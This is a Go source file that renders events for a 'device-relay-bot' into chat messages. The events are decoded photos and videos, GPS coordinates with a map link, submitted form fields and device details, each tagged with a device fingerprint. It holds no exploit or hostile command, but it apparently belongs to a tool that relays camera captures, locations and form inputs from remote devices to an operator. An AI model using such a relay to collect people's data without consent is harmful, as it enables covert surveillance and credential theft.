package event

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"sort"
	"strconv"
	"strings"

	apperrors "device-relay-bot/internal/errors"
)

// maxMediaItems caps how many media attachments one event may carry.
const maxMediaItems = 10

// Renderer maps events to message descriptor sequences. Rendering is
// deterministic: identical events always yield identical descriptors.
type Renderer struct {
	log *slog.Logger
}

func NewRenderer(log *slog.Logger) *Renderer {
	if log == nil {
		log = slog.Default()
	}

	return &Renderer{log: log}
}

// Render produces the outbound messages for ev. An unknown event type
// renders nothing and is only logged. A validation error (malformed
// payload for the declared type) is returned for the caller to surface.
func (r *Renderer) Render(ev *Event) ([]Message, error) {
	if ev == nil {
		return nil, apperrors.NewValidationError("missing event")
	}

	switch ev.Type {
	case TypePhotos:
		return r.renderMedia(ev, KindPhoto, "📸 *New photos!*")
	case TypeVideo:
		return r.renderMedia(ev, KindVideo, "🎬 *New video!*")
	case TypeLocation:
		return r.renderLocation(ev)
	case TypeForm:
		return r.renderForm(ev)
	case TypeDeviceInfo:
		return r.renderDeviceInfo(ev)
	default:
		r.log.Warn("unknown event type", slog.String("type", string(ev.Type)))
		return nil, nil
	}
}

// renderMedia decodes up to maxMediaItems base64 items. Individual decode
// failures are logged and skipped; only the first successfully decoded item
// carries the caption.
func (r *Renderer) renderMedia(ev *Event, kind Kind, header string) ([]Message, error) {
	var items []string
	if err := json.Unmarshal(ev.Data, &items); err != nil {
		return nil, apperrors.NewValidationError("media payload must be an array of base64 strings")
	}

	if len(items) > maxMediaItems {
		items = items[:maxMediaItems]
	}

	caption := fmt.Sprintf(
		"%s\n\n*Device:* `%s`\n*Time:* `%s`",
		header, orDash(ev.Fingerprint), orDash(ev.CollectedAt),
	)

	msgs := make([]Message, 0, len(items))
	for idx, item := range items {
		body, err := decodeBase64Item(item)
		if err != nil {
			r.log.Error("failed to decode media item",
				slog.Int("index", idx),
				slog.String("type", string(ev.Type)),
				slog.Any("error", err),
			)
			continue
		}

		msg := Message{Kind: kind, Body: body}
		if len(msgs) == 0 {
			msg.Text = caption
			msg.Markdown = true
		}
		msgs = append(msgs, msg)
	}

	return msgs, nil
}

func (r *Renderer) renderLocation(ev *Event) ([]Message, error) {
	var loc locationData
	if err := json.Unmarshal(ev.Data, &loc); err != nil {
		return nil, apperrors.NewValidationError("location payload invalid")
	}
	if loc.Latitude == nil || loc.Longitude == nil {
		return nil, apperrors.NewValidationError("location payload invalid")
	}

	lat := formatCoord(*loc.Latitude)
	lon := formatCoord(*loc.Longitude)
	mapsLink := fmt.Sprintf("https://www.google.com/maps?q=%s,%s", lat, lon)

	text := fmt.Sprintf(
		"📍 *Location received!*\n\n*Device:* `%s`\n*Coordinates:* `%s, %s`\n\n[Open map](%s)",
		orDash(ev.Fingerprint), lat, lon, mapsLink,
	)

	return []Message{{Kind: KindText, Text: text, Markdown: true, NoPreview: true}}, nil
}

// renderForm lists form fields, dropping entries whose value is blank after
// trimming. An all-blank form renders an explicit empty marker.
func (r *Renderer) renderForm(ev *Event) ([]Message, error) {
	fields, err := decodeFields(ev.Data)
	if err != nil {
		return nil, apperrors.NewValidationError("form payload must be an object")
	}

	var lines []string
	for _, key := range sortedKeys(fields) {
		value := strings.TrimSpace(fields[key])
		if value == "" {
			continue
		}
		lines = append(lines, fmt.Sprintf("- *%s:* `%s`", key, value))
	}

	body := "_(empty)_"
	if len(lines) > 0 {
		body = strings.Join(lines, "\n")
	}

	text := fmt.Sprintf(
		"📝 *Form submitted: '%s'*\n\n*Device:* `%s`\n\n%s",
		orDash(ev.FormID), orDash(ev.Fingerprint), body,
	)

	return []Message{{Kind: KindText, Text: text, Markdown: true}}, nil
}

// renderDeviceInfo lists every field unconditionally, blanks included.
func (r *Renderer) renderDeviceInfo(ev *Event) ([]Message, error) {
	fields, err := decodeFields(ev.Data)
	if err != nil {
		return nil, apperrors.NewValidationError("device_info payload must be an object")
	}

	var lines []string
	for _, key := range sortedKeys(fields) {
		lines = append(lines, fmt.Sprintf("- *%s:* `%s`", key, fields[key]))
	}

	text := fmt.Sprintf(
		"📱 *Device info*\n\n*Device:* `%s`\n*Time:* `%s`\n\n%s",
		orDash(ev.Fingerprint), orDash(ev.CollectedAt), strings.Join(lines, "\n"),
	)

	return []Message{{Kind: KindText, Text: text, Markdown: true}}, nil
}

// decodeBase64Item strips an optional data-URI prefix up to the first comma
// and decodes the remainder.
func decodeBase64Item(item string) ([]byte, error) {
	payload := item
	if idx := strings.Index(payload, ","); idx >= 0 {
		payload = payload[idx+1:]
	}

	return base64.StdEncoding.DecodeString(payload)
}

// decodeFields accepts any flat JSON object and stringifies scalar values.
func decodeFields(data json.RawMessage) (map[string]string, error) {
	var raw map[string]any
	if err := json.Unmarshal(data, &raw); err != nil {
		return nil, err
	}

	fields := make(map[string]string, len(raw))
	for key, value := range raw {
		switch v := value.(type) {
		case nil:
			fields[key] = ""
		case string:
			fields[key] = v
		case float64:
			fields[key] = strconv.FormatFloat(v, 'f', -1, 64)
		case bool:
			fields[key] = strconv.FormatBool(v)
		default:
			encoded, err := json.Marshal(v)
			if err != nil {
				return nil, err
			}
			fields[key] = string(encoded)
		}
	}

	return fields, nil
}

func sortedKeys(fields map[string]string) []string {
	keys := make([]string, 0, len(fields))
	for key := range fields {
		keys = append(keys, key)
	}
	sort.Strings(keys)

	return keys
}

// formatCoord renders a coordinate keeping at least one fractional digit,
// so 10 prints as 10.0 and round-trips the way upstream senders format it.
func formatCoord(v float64) string {
	s := strconv.FormatFloat(v, 'f', -1, 64)
	if !strings.ContainsAny(s, ".eE") {
		s += ".0"
	}

	return s
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}

	return s
}
